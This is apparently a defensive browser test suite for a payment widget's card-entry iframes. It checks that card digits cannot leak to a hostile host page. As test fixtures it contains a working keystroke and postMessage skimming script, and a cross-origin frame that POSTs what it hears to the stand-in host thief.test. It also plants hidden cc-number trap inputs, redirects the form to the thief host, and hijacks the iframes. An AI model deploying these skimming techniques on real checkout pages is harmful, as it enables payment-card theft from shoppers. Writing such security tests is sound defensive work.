import { beforeEach, describe, expect, it } from '@jest/globals';
import {
  APPROVED,
  codeOf,
  entityId,
  type Fields,
  headers,
  MONEY,
  send,
} from './demo-merchant-fixture.js';
import { BROWSER_WITHIN_MS } from './shopper-fixture.js';
import { CARD, WidgetVisit } from './widget-fixture.js';

const visit = new WidgetVisit();
/** Whom the page works for; a browser is answered, and nobody else is asked. */
const THIEF = 'http://thief.test';
/** Other digits than those of ids and ports. */
const SECRET = { ...CARD, number: '377777777777770', code: '7391' };
const DIGITS = /3777|777777|(?<![0-9a-f])7391(?![0-9a-f])/;

/** What left the browser to anybody but the gateway. */
const stolen: string[] = [];
beforeEach(async () => {
  stolen.length = 0;
  await visit.page.route(`${THIEF}/**`, (route) =>
    route.fulfill({ contentType: 'text/html', body: THIEF_FRAME }),
  );
  visit.page.on('request', (request) => {
    if (request.url().startsWith(visit.sandbox.url)) return;
    stolen.push(`${request.url()} ${request.postData() ?? ''}`);
  });
});

/** In a frame of another origin beside the form's: it asks them to talk to it, and tells what it hears. */
const THIEF_FRAME = `<script>
  const tell = (what) => fetch('${THIEF}/heard', { method: 'POST', mode: 'no-cors', body: JSON.stringify(what) });
  addEventListener('message', ({ data, ports }) => {
    tell(['message', data]);
    for (const port of ports) port.onmessage = (event) => tell(['port', event.data]);
  });
  const look = { kind: 'number', brands: [], brandPriority: [], style: {}, placeholderStyle: {} };
  setInterval(() => {
    for (let at = 0; at < parent.length; at += 1) {
      try { tell(['read', parent[at].document.body.innerHTML, parent[at].sluiceCode()]); } catch {}
      const { port1, port2 } = new MessageChannel();
      port1.onmessage = (event) => tell(['channel', event.data]);
      if (parent[at] !== self) parent[at].postMessage({ kind: 'begin', look }, '*', [port2]);
    }
  }, 20);
</script>`;

/** Of the page: it keeps whatever it can hear, and looks into what the form hands to the browser. */
const LISTENING = `<script>
  window.loot = [];
  const words = (list) => { try { return JSON.stringify(list); } catch { return String(list); } };
  for (const type of ['keydown', 'keyup', 'keypress', 'beforeinput', 'input', 'change', 'paste', 'copy',
    'compositionend', 'focus', 'focusin', 'focusout', 'blur', 'selectionchange', 'submit', 'formdata', 'message']) {
    addEventListener(type, (event) => loot.push(words([type, event.key, event.code, event.data, event.target?.value,
      event.formData && [...event.formData], getSelection()?.toString()])), true);
  }
  for (const [object, name] of [[window, 'fetch'], [XMLHttpRequest.prototype, 'send'], [window, 'postMessage'],
    [MessagePort.prototype, 'postMessage'], [FormData.prototype, 'append'], [JSON, 'parse'], [Array.prototype, 'push']]) {
    const own = object[name];
    object[name] = function (...given) {
      if (this !== loot) loot[loot.length] = name + words(given);
      return own.apply(this, given);
    };
  }
  const { set } = Object.getOwnPropertyDescriptor(MessagePort.prototype, 'onmessage');
  Object.defineProperty(MessagePort.prototype, 'onmessage', { set(handler) {
    set.call(this, (event) => { loot[loot.length] = 'port' + words(event.data); handler(event); });
  } });
</script>`;

/** All that the page has, its document included. */
const haul = () =>
  visit.host.evaluate<string>(`loot.join() + document.documentElement.outerHTML +
    Array.from(document.querySelectorAll('input, select'), ({ value }) => value).join() +
    Array.from(document.querySelectorAll('iframe'), (frame) => {
      try { return frame.contentWindow.document.body.innerHTML + frame.contentWindow.sluiceCode(); }
      catch (error) { return error.name; }
    }).join()`);

async function expectNoDigits(): Promise<void> {
  const all = await haul();
  expect(all).toContain('Jane Jones');
  expect(all).not.toMatch(DIGITS);
  expect(stolen.join('\n')).not.toMatch(DIGITS);
}

/** Without a token. */
async function ask(path: string, fields?: Fields): Promise<{ status: number; text: string }> {
  const init = fields === undefined ? {} : { method: 'POST', body: new URLSearchParams(fields) };
  const response = await fetch(`${visit.sandbox.url}${path}`, init);
  return { status: response.status, text: await response.text() };
}

const brands = 'AMEX VISA';

describe('a page that works against its shoppers', () => {
  it('would be found with a digit, however it is written', () => {
    for (const loot of ['377777777777770', '3777 777777 77770', '["7391"]', 'card.cvv=7391'])
      expect(loot).toMatch(DIGITS);
  });

  it(
    'hears no digit, whatever it listens to and whomever it has beside the form',
    async () => {
      const { id } = await visit.create();
      const formText = `<iframe src="${THIEF}/frame" title="advertisement"></iframe>`;
      await visit.open(id, { brands, head: LISTENING });
      await visit.isReady();
      await visit.host.evaluate(
        `document.body.insertAdjacentHTML('beforeend', ${JSON.stringify(formText)})`,
      );
      const thief = `document.querySelector('iframe[src^="${THIEF}"]')`;
      const heard = visit.page.waitForRequest(`${THIEF}/heard`);
      await visit.host.evaluate(
        `${thief}.addEventListener('load', () => ${thief}.contentWindow.postMessage('listen', '*'))`,
      );
      await heard;
      await visit.fill(SECRET);
      await visit.number.press('Control+a');
      await visit.number.press('Control+c');
      await expectNoDigits();
      expect(await haul()).toContain('SecurityError,SecurityError,SecurityError');
      await visit.payButton.click();
      await visit.isBack();
      expect(await codeOf(visit.read())).toBe(APPROVED);
      // It was there all the time, and heard the page alone.
      expect(stolen.filter((what) => what.includes('/heard'))).toEqual([
        `${THIEF}/heard ["message","listen"]`,
      ]);
      expect(stolen.join('\n')).not.toMatch(DIGITS);
    },
    BROWSER_WITHIN_MS,
  );

  it(
    'gets none by having the form saved for a summary, nor is it paid by that',
    async () => {
      const { id } = await visit.create();
      const options =
        '{useSummaryPage: true, onSaveTransactionData(data) { window.saved = data; }}';
      await visit.openForm(id, { brands, head: LISTENING, options });
      await visit.fill(SECRET);
      await visit.payButton.click();
      await visit.page.waitForFunction('window.saved !== undefined');
      expect(await visit.host.evaluate('saved.paymentBrand')).toBe('AMEX');
      await expectNoDigits();
      const path = `/v1/checkouts/${id}/payment`;
      expect(await codeOf(send(visit.sandbox, ['GET', path]))).toBe('000.200.000');
      // Whoever has the id may pay it now, and hears no digit by that either.
      const paid = await ask(path, {});
      expect(paid.text).toContain(APPROVED);
      expect(paid.text).not.toMatch(DIGITS);
    },
    BROWSER_WITHIN_MS,
  );

  it(
    'is told by a list of what the card is, and of no digit of it',
    async () => {
      const { id } = await visit.create();
      const onDetectBin = 'onDetectBin: (...told) => loot.push(JSON.stringify(told))';
      const options = `{brandDetectionType: 'binlist', ${onDetectBin}}`;
      await visit.openForm(id, { brands, head: LISTENING, options });
      const asked: string[] = [];
      visit.page.on('request', (request) => {
        if (request.url().endsWith('/card-range')) asked.push(request.postData() ?? '');
      });
      await visit.fill(SECRET);
      await visit.page.waitForFunction("loot.join().includes('CREDIT')");
      expect(asked).toEqual(['card.range=377777', 'card.range=37777777']);
      await expectNoDigits();
      // Nor by what its browser knows of what was loaded.
      expect(
        await visit.host.evaluate<string>(
          "JSON.stringify(performance.getEntriesByType('resource'))",
        ),
      ).not.toMatch(/card-range/);
      await visit.payButton.click();
      await visit.isBack();
    },
    BROWSER_WITHIN_MS,
  );

  it(
    'gets none by fields of its own in the form, nor by sending the form itself',
    async () => {
      const { id } = await visit.create();
      await visit.openForm(id, { brands, head: LISTENING });
      await visit.host.evaluate(`{
        const traps = ['card.number', 'card.cvv', 'cardnumber', 'cvc'].map((name) =>
          '<input name="' + name + '" autocomplete="cc-number" style="position: absolute; opacity: 0">');
        const form = document.querySelector('.wpwl-form-card');
        form.insertAdjacentHTML('beforeend', traps.join('') + '<iframe name="away" title="away"></iframe>');
        form.action = '${THIEF}/form';
        form.target = 'away';
      }`);
      // What a browser fills into the frames it fills into no field of the page, which has no leave for it.
      const leave = await visit.host.evaluate(
        "Array.from(document.querySelectorAll('.wpwl-control-iframe'), ({ allow, name }) => [allow, name])",
      );
      expect(leave).toEqual([
        ['', ''],
        ['', ''],
      ]);
      await visit.fill(SECRET);
      const sent = visit.page.waitForRequest(`${THIEF}/form`);
      await visit.host.evaluate(
        "HTMLFormElement.prototype.submit.call(document.querySelector('.wpwl-form-card'))",
      );
      await sent;
      await expectNoDigits();
      await visit.payButton.click();
      await visit.isBack();
      expect(await codeOf(visit.read())).toBe(APPROVED);
      expect(stolen.join('\n')).not.toMatch(DIGITS);
    },
    BROWSER_WITHIN_MS,
  );

  it(
    'gets none by sending a frame elsewhere: what was typed is gone, and nobody else is talked to',
    async () => {
      const { id } = await visit.create();
      await visit.openForm(id, { brands, head: LISTENING });
      await visit.fill(SECRET);
      for (const field of ['cardNumber', 'cvv']) {
        const frame = `document.querySelector('iframe.wpwl-control-${field}')`;
        const address = await visit.host.evaluate<string>(`${frame}.src`);
        await visit.host.evaluate(`${frame}.src = '${THIEF}/${field}'`);
        await visit.page
          .frameLocator(`iframe.wpwl-control-${field}`)
          .locator('script')
          .waitFor({ state: 'attached' });
        await visit.host.evaluate(`${frame}.src = ${JSON.stringify(address)}`);
        await visit.isReady();
      }
      expect(await Promise.all([visit.number.inputValue(), visit.code.inputValue()])).toEqual([
        '',
        '',
      ]);
      await expectNoDigits();
      expect(stolen.filter((what) => what.includes('"begin"'))).toEqual([]);
      await visit.payButton.click();
      for (const name of ['cardNumberError', 'cvvError']) await visit.hint(name).waitFor();
      expect(visit.returns).toEqual([]);
    },
    BROWSER_WITHIN_MS,
  );

  it(
    'has nothing in the frames that a click would do, wherever they are shown',
    async () => {
      const { id } = await visit.create();
      await visit.openForm(id, { brands });
      for (const field of ['cardNumber', 'cvv'] as const) {
        const frame = visit.frameOf(field);
        expect(await frame.locator('input').count()).toBe(1);
        expect(await frame.locator('a, button, form, select, iframe, [onclick]').count()).toBe(0);
      }
    },
    BROWSER_WITHIN_MS,
  );
});

describe('whoever has got the id of a checkout, and nothing else', () => {
  const CARD_FIELDS = {
    ...{ paymentBrand: 'VISA', 'card.number': '4200000000000000', 'card.holder': 'Jane Jones' },
    ...{ 'card.expiryMonth': '05', 'card.expiryYear': '2034', 'card.cvv': '123' },
  };

  it('neither reads nor changes it, nor anything else at the gateway', async () => {
    const other = await visit.create();
    const { id } = await visit.create();
    const asked = [
      ask(`/v1/checkouts/${id}/payment?entityId=${entityId}`),
      ask(`/v1/checkouts/${id}`, { entityId, amount: '1.00' }),
      ask('/v1/checkouts', { entityId, ...MONEY }),
      ask('/v1/payments', { entityId, ...MONEY, ...CARD_FIELDS }),
      ask(`/v1/payments/${other.id}?entityId=${entityId}`),
      ask(`/v1/query?entityId=${entityId}&merchantTransactionId=order-7`),
      ask('/v1/registrations', { entityId, ...CARD_FIELDS }),
    ];
    const statuses = (await Promise.all(asked)).map(({ status }) => status);
    expect(statuses).toEqual([401, 401, 401, 401, 401, 401, 401]);
    const asBearer = await fetch(
      `${visit.sandbox.url}/v1/checkouts/${id}/payment?entityId=${entityId}`,
      {
        headers: { ...headers, Authorization: `Bearer ${id}` },
      },
    );
    expect([401, 403]).toContain(asBearer.status);
  });

  it('pays neither less, nor with what is stored for others, nor as something else', async () => {
    const stored = await send(visit.sandbox, ['POST', '/v1/registrations'], CARD_FIELDS);
    const { id } = await visit.create({ ...MONEY, merchantTransactionId: 'stolen id' });
    const { paymentBrand, ...others } = CARD_FIELDS;
    const attempts: Fields[] = [
      { ...CARD_FIELDS, amount: '0.01' },
      { ...CARD_FIELDS, currency: 'JPY' },
      { ...CARD_FIELDS, paymentType: 'CD' },
      { ...CARD_FIELDS, merchantTransactionId: 'another' },
      { ...CARD_FIELDS, 'customParameters[simulator.fault]': 'http-500' },
      { registrationId: stored.id },
      { ...others, paymentBrand, registrationId: stored.id },
    ];
    for (const fields of attempts) {
      const { status, text } = await ask(`/v1/checkouts/${id}/payment`, fields);
      expect([status, text]).toEqual([400, expect.stringContaining('200.300.404')]);
    }
    expect((await ask(`/v1/checkouts/${id}/registration`, CARD_FIELDS)).status).toBe(400);
    const found = await send(visit.sandbox, ['GET', '/v1/query'], {
      merchantTransactionId: 'stolen id',
    });
    expect(found['payments'] ?? []).toEqual([]);
  });

  it('sees of a stored card what its shopper sees, and after the payment nothing', async () => {
    const stored = await send(visit.sandbox, ['POST', '/v1/registrations'], CARD_FIELDS);
    const { id } = await visit.create({ ...MONEY, 'registrations[0].id': stored.id });
    const shown = await ask(`/v1/checkouts/${id}/form`);
    expect(shown.text).toContain('"last4Digits":"0000"');
    expect(shown.text).not.toMatch(/42000000/);
    const paid = await ask(`/v1/checkouts/${id}/payment`, { registrationId: stored.id });
    expect(paid.status).toBe(200);
    expect(paid.text).not.toMatch(/42000000/);
    await send(visit.sandbox, ['GET', `/v1/checkouts/${id}/payment`]);
    const later = await Promise.all([
      ask(`/v1/checkouts/${id}/form`),
      ask(`/v1/checkouts/${id}/payment`, CARD_FIELDS),
    ]);
    expect(later.map(({ status }) => status)).toEqual([400, 400]);
  });
});
